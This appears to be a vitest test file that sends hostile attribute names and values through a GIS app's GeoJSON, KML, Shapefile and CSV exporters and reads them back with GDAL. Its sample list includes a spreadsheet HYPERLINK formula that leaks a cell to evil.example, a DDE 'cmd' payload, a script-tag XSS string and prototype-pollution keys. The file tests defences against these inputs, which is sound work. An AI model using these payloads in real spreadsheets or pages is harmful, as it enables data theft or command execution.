// Hostile attribute names and values through every export format, read back by GDAL (an independent
// reader: ogr2ogr → GeoJSON). The source is a GeoJSON file whose property names and values are a list
// of hostile strings; it is imported with our reader, then written as GeoJSON, VN-2000 GeoJSON, the
// submission file, TopoJSON, KML, zipped Shapefile (WGS 84 and VN-2000), CSV points and the province
// summary CSV. Every value must come back as it was, or changed in the documented way AND warned about:
// - import: NUL becomes U+FFFD (GDAL and dBase end the text there), warned 'value-changed';
// - KML: characters XML 1.0 cannot carry become U+FFFD ('value-changed'); null values are left out;
// - dBase: names become ≤ 10-char columns ('field-renamed'), text is cut at 254 bytes ('field-truncated'),
//   spaces at either end are dropped by readers ('value-changed'), empty text reads as null;
// - CSV: a cell a spreadsheet would run as a formula starts with a single quote (OWASP).
// What GDAL does itself is allowed for, not blamed on the files: its field names are case-insensitive
// (of "NAME" and "name" it keeps one field); its LIBKML driver writes each byte of a Data name outside
// [A-Za-z0-9_] as "_" (so "\t=1+1" and "\r=1+1" become one field); its GeoJSON output writes text that
// is a JSON object or array as JSON; its CSV reader joins the lines of a quoted cell with LF. Where GDAL
// merges names, its value must be one of theirs; everywhere else it must be exact. GDAL is installed in CI.
import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { coverageFromFeatures, type Coverage } from '../../src/core/model';
import { provinceSummary, summaryToCsv } from '../../src/core/report/province-summary';
import type { IoError } from '../../src/io/errors';
import { readAnyFile, writeAnyFile, type WriteOptions } from '../../src/io/formats';
import { vn2000 } from '../../src/io/vn2000';
import { unwrap } from './helpers';

const HOSTILE: readonly string[] = [
  '__proto__', 'constructor', 'toString', 'valueOf', 'hasOwnProperty', 'prototype', '',
  ' ', '=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1',
  '<script>alert(1)</script>', ']]><x a="&amp;"/>', 'ctl\u0001\u0007\u001b\u007f\u0085', 'nul\u0000x', 'line\nbreak\r\nend\r',
  'x'.repeat(10_000), '😀 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 🇻🇳', 'Thành Đông', 'Tha\u0300nh (NFD)', 'longname_01', 'longname_02', 'NAME', '  lead', 'trail  ',
];
const N = HOSTILE.length;
/** Values that are not strings, which the writers must take too. */
const OTHER: Readonly<Record<string, unknown>> = { nested: { '<a>': ['=1', { b: null }] }, list: ['x', 1, null], nothing: null, big: 1e308, tiny: 5e-324 };

const code = (i: number) => String(10_000 + i);
const valueOf = (i: number, j: number) => HOSTILE[(i + j + 7) % N]!;

/** Own data properties, as JSON.parse makes them ("__proto__" included). */
function record(entries: readonly (readonly [string, unknown])[]): Record<string, unknown> {
  const out: Record<string, unknown> = {};
  for (const [k, v] of entries) Object.defineProperty(out, k, { value: v, enumerable: true, writable: true, configurable: true });
  return out;
}

function hostileFile(): string {
  const features = HOSTILE.map((h, i) => ({
    type: 'Feature',
    properties: record([
      ['code', code(i)], ['name', h], ['fullName', HOSTILE[(i + 1) % N]!], ['type', 'xa'],
      ...HOSTILE.map((k, j) => [k, valueOf(i, j)] as const),
      ...Object.entries(OTHER),
    ]),
    geometry: { type: 'Polygon', coordinates: [[[106 + i * 0.01, 21], [106.009 + i * 0.01, 21], [106.009 + i * 0.01, 21.009], [106 + i * 0.01, 21]]] },
  }));
  return JSON.stringify({ type: 'FeatureCollection', features });
}

const dir = mkdtempSync(join(tmpdir(), 'dia-gioi-hostile-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** Every feature's properties as GDAL reads the file. */
function gdal(path: string): Record<string, unknown>[] {
  const r = spawnSync('ogr2ogr', ['-f', 'GeoJSON', '/vsistdout/', path], { encoding: 'utf8', maxBuffer: 1 << 28 });
  if (r.error) throw new Error(`ogr2ogr could not run (GDAL is required): ${r.error.message}`);
  expect(r.stderr, `GDAL on ${path}`).not.toMatch(/ERROR/);
  expect(r.status, `GDAL on ${path}`).toBe(0);
  return (JSON.parse(r.stdout) as { features: { properties: Record<string, unknown> }[] }).features.map((f) => f.properties);
}

function written(name: string, c: Coverage, o: WriteOptions = {}): { path: string; warnings: readonly IoError[] } {
  const w = unwrap(writeAnyFile(name, c, o));
  const path = join(dir, name);
  writeFileSync(path, w.bytes);
  return { path, warnings: w.warnings };
}

/** A GDAL field of a name, case-insensitively (GDAL's own rule). */
function gdalField(props: Record<string, unknown>, key: string): [string, unknown] | undefined {
  return Object.entries(props).find(([k]) => k.toLowerCase() === key.toLowerCase());
}

/** GDAL's value equals ours (text holding a JSON object or array may come back as that JSON). */
function same(got: unknown, want: unknown): boolean {
  if (typeof want === 'string' && typeof got === 'object' && got !== null && /^[[{]/.test(want)) {
    try {
      return JSON.stringify(JSON.parse(want)) === JSON.stringify(got);
    } catch {
      return false;
    }
  }
  return Object.is(got, want) || (typeof got === 'object' && JSON.stringify(got) === JSON.stringify(want));
}

/**
 * Expected (GDAL field name, value) pairs against what GDAL read. Pairs whose names GDAL merges must
 * give one field holding one of their values; the others must be exact. Null expectations may be absent.
 */
function expectFields(got: Record<string, unknown>, expected: readonly (readonly [string, unknown])[], label: string): void {
  const groups = new Map<string, unknown[]>();
  for (const [k, v] of expected) groups.set(k.toLowerCase(), [...(groups.get(k.toLowerCase()) ?? []), v]);
  for (const [key, values] of groups) {
    const field = gdalField(got, key);
    if (values.every((v) => v === null) && (field === undefined || field[1] === null)) continue;
    expect(field, `${label}: no GDAL field ${JSON.stringify(key.slice(0, 40))}`).toBeDefined();
    const where = `${label}: ${JSON.stringify(key.slice(0, 40))}${values.length > 1 ? ' (merged by GDAL)' : ''}`;
    const shown = (v: unknown) => JSON.stringify(v)?.slice(0, 120);
    expect(values.some((v) => same(field![1], v)), `${where}: GDAL has ${shown(field![1])}, we wrote ${values.map(shown).join(' or ')}`).toBe(true);
  }
}

/** The hostile strings as the import keeps them: NUL as U+FFFD. */
const imported = (s: string) => s.replace(/\0/g, '\uFFFD');

describe('hostile names and values: every export format, read back by GDAL', () => {
  const layer = unwrap(readAnyFile('hostile.geojson', hostileFile()));
  const c = coverageFromFeatures(layer.features);
  const units = [...c.units.values()];

  it('the import keeps every name as data (prototype names, empty, 10k chars) and warns about NUL', () => {
    expect(units).toHaveLength(N);
    for (const [i, u] of units.entries()) {
      expect(Object.keys(u.attrs.extra).sort()).toEqual([...HOSTILE.map(imported), ...Object.keys(OTHER)].sort());
      expect(Object.getPrototypeOf(u.attrs.extra)).toBe(Object.prototype);
      for (const [j, k] of HOSTILE.entries()) expect(Object.getOwnPropertyDescriptor(u.attrs.extra, imported(k))?.value).toBe(imported(valueOf(i, j)));
      if (HOSTILE[i]!.trim() !== '') expect(u.attrs.name).toBe(imported(HOSTILE[i]!).normalize('NFC').trim());
    }
    expect(layer.crs.kind).toBe('wgs84');
    const source = (JSON.parse(hostileFile()) as { features: { properties: Record<string, unknown> }[] }).features;
    const nuls = source.flatMap((f) => Object.entries(f.properties).flat()).filter((s) => typeof s === 'string' && s.includes('\0'));
    const warned = readAnyFile('hostile.geojson', hostileFile());
    expect(warned.ok && warned.warnings.filter((w) => w.code === 'value-changed')).toHaveLength(nuls.length);
  });

  /** name, fullName and every extra, as the app holds them. */
  const appFields = (i: number): [string, unknown][] => {
    const a = units[i]!.attrs;
    return [['name', a.name], ['fullName', a.fullName], ['code', a.code], ...Object.entries(a.extra)];
  };

  it.each([
    ['GeoJSON', 'h.geojson', {}],
    ['VN-2000 GeoJSON', 'h-vn2000.geojson', { crs: vn2000(105.75) }],
    ['TopoJSON', 'h.topojson', {}],
  ] as const)('%s: every name and value exactly, no warning', (_label, name, o) => {
    const out = written(name, c, o);
    expect(out.warnings).toEqual([]);
    const back = gdal(out.path);
    expect(back).toHaveLength(N);
    back.forEach((got, i) => expectFields(got, appFields(i), `${name} feature ${i}`));
  });

  it('submission GeoJSON: the national properties exactly', () => {
    const out = written('h-submission.geojson', c, { submission: { exportedAt: '2026-12-01T00:00:00Z' } });
    const back = gdal(out.path);
    back.forEach((got, i) => expectFields(got, [['maxa', units[i]!.attrs.code], ['tenhc', units[i]!.attrs.fullName]], `submission feature ${i}`));
  });

  it('KML: every value (XML-impossible characters as U+FFFD, each warned), well-formed for GDAL', () => {
    const xmlSafe = (s: string) => s.replace(/[^\t\n\r\u0020-\uD7FF\uE000-\uFFFD\u{10000}-\u{10FFFF}]/gu, '\uFFFD');
    const text = (v: unknown) => (v === null ? null : typeof v === 'string' ? xmlSafe(v) : typeof v === 'number' ? String(v) : JSON.stringify(v));
    // GDAL LIBKML: each UTF-8 byte of a Data name outside [A-Za-z0-9_] becomes "_".
    const libkmlName = (k: string) => Array.from(new TextEncoder().encode(k), (b) => (/[A-Za-z0-9_]/.test(String.fromCharCode(b)) ? String.fromCharCode(b) : '_')).join('');
    const out = written('h.kml', c);
    const changed = ([k, v]: readonly [string, unknown]) => xmlSafe(k) !== k || (typeof v === 'string' && xmlSafe(v) !== v);
    const expectedWarnings = units.flatMap((u, i) => {
      const a = u.attrs;
      // Each Data with a changed name or value, and the placemark's <name>.
      return [...appFields(i), ['name', a.fullName || a.code] as [string, unknown]].filter(changed).map(([k]) => `${a.code} ${k.slice(0, 80)}`);
    });
    expect(out.warnings.map((w) => `${w.feature} ${w.field}`).sort()).toEqual(expectedWarnings.sort());
    expect(out.warnings.every((w) => w.code === 'value-changed')).toBe(true);
    const back = gdal(out.path);
    expect(back).toHaveLength(N);
    back.forEach((got, i) => {
      const a = units[i]!.attrs;
      const fields = appFields(i).map(([k, v]) => [libkmlName(xmlSafe(k)), text(v)] as const);
      // The placemark's <name> is GDAL's "Name" field, merged with a Data "name".
      expectFields(got, [...fields, ['Name', xmlSafe(a.fullName || a.code)]], `kml feature ${i}`);
    });
    // Our own reader gets the names too, exactly (GDAL's mangling aside).
    const ours = unwrap(readAnyFile('h.kml', unwrap(writeAnyFile('h.kml', c)).bytes));
    ours.features.forEach((f, i) => {
      for (const [k, v] of Object.entries(units[i]!.attrs.extra)) {
        if (v === null) continue;
        const label = `our kml reader, feature ${i}: ${JSON.stringify(k.slice(0, 30))}`;
        expect(Object.getOwnPropertyDescriptor(f.properties!, xmlSafe(k))?.value, label).toBe(text(v));
      }
    });
  });

  it.each([
    ['WGS 84', 'h.zip', {}],
    ['VN-2000', 'h-vn2000.zip', { crs: vn2000(105.75) }],
  ] as const)('zipped Shapefile (%s): columns and cuts as warned, every other value exactly', (_label, name, o) => {
    const out = written(name, c, o);
    const renamed = new Map(out.warnings.filter((w) => w.code === 'field-renamed').map((w) => [String(w.values!.property), String(w.values!.column)]));
    const fixed = new Map([['name', 'name'], ['fullName', 'fullname'], ['code', 'code']]);
    const column = (k: string) => fixed.get(k) ?? renamed.get(k.slice(0, 80)) ?? k;
    const extras = Object.keys(units[0]!.attrs.extra);
    // Every property whose column is not its own name was warned about; columns are valid and unique.
    for (const k of extras) expect(column(k) === k || renamed.has(k.slice(0, 80)), `column of ${JSON.stringify(k.slice(0, 30))}`).toBe(true);
    const columns = [...fixed.keys(), ...extras].map(column);
    expect(new Set(columns.map((x) => x.toLowerCase())).size).toBe(columns.length);
    for (const col of columns) expect(col).toMatch(/^[a-z][a-z0-9_]{0,9}$/);

    const cut = (s: string) => {
      let out = '';
      for (const ch of s) {
        if (new TextEncoder().encode(out + ch).length > 254) break;
        out += ch;
      }
      return out;
    };
    const dbfValue = (v: unknown) => {
      if (v === null || typeof v === 'number') return v;
      const s = cut(typeof v === 'string' ? v : JSON.stringify(v)).replace(/^ +| +$/g, '');
      return s === '' ? null : s;
    };
    const back = gdal(`/vsizip/${out.path}`);
    expect(back).toHaveLength(N);
    const expectedCuts: string[] = [], expectedChanges: string[] = [];
    back.forEach((got, i) => {
      const a = units[i]!.attrs;
      const fields = appFields(i).map(([k, v]) => {
        const text = typeof v === 'string' ? v : v === null || typeof v === 'number' ? null : JSON.stringify(v);
        if (text !== null && new TextEncoder().encode(text).length > 254) expectedCuts.push(`${a.code} ${column(k)}`);
        if (text !== null && /^ | $/.test(cut(text))) expectedChanges.push(`${a.code} ${column(k)}`);
        return [column(k), dbfValue(v)] as const;
      });
      expectFields(got, fields, `${name} feature ${i}`);
    });
    const listed = (code_: string) => out.warnings.filter((w) => w.code === code_).map((w) => `${w.feature} ${w.field}`).sort();
    expect(listed('field-truncated')).toEqual(expectedCuts.sort());
    expect(listed('value-changed')).toEqual(expectedChanges.sort());
    expect(out.warnings.every((w) => ['field-renamed', 'field-truncated', 'value-changed'].includes(w.code))).toBe(true);
  });

  // A spreadsheet runs a cell starting with = + - @ TAB CR; the writer puts a quote in front (OWASP).
  const inert = (s: string) => (/^'*[=+\-@\t\r]/.test(s) && !/^[-+]?\d+(\.\d*)?$/.test(s) ? `'${s}` : s);

  it('CSV points: code and name, formula-like cells inert', () => {
    const out = written('h.csv', c);
    const rows = gdal(out.path);
    const byCode = new Map(rows.map((r) => [r.code as string, r]));
    expect(byCode.size).toBe(N);
    units.forEach((u) => expect(byCode.get(u.attrs.code)!.name, u.attrs.code).toBe(inert(u.attrs.name).replace(/\r\n/g, '\n')));
    // Our reader takes the quote off again.
    const ours = coverageFromFeatures(unwrap(readAnyFile('h.csv', unwrap(writeAnyFile('h.csv', c)).bytes)).features);
    expect([...ours.units.values()].map((u) => u.attrs.name)).toEqual(units.map((u) => u.attrs.name));
  });

  it('province summary CSV: names inert, numbers still numbers', () => {
    const path = join(dir, 'summary.csv');
    writeFileSync(path, summaryToCsv(provinceSummary(c)));
    const rows = gdal(path);
    expect(rows).toHaveLength(N);
    rows.forEach((r, i) => {
      const a = units[i]!.attrs;
      expect(r.name, a.code).toBe(inert(a.fullName || a.name).replace(/\r\n/g, '\n'));
      expect(Number(r.areaKm2)).toBeGreaterThan(0);
    });
  });
});
